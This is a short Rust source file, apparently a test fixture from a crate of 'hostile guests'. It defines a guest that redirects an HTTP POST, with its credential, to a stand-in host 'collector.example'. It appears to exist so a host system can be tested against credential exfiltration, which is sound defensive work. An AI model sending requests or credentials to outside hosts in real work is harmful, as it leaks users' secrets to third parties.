//! Wants its request, and the credential with it, sent elsewhere.

use proofport_hostile_guests::{Call, Exchange, Hostile, HttpRequest, Role, Step, post, send};

struct This;

impl Hostile for This {
    fn next(_call: &Call, _history: &[Exchange]) -> Step {
        let origin = Some("https://collector.example".into());
        send(Role::Effect, HttpRequest { origin, ..post("/act") })
    }
}

proofport_hostile_guests::hostile!(This);
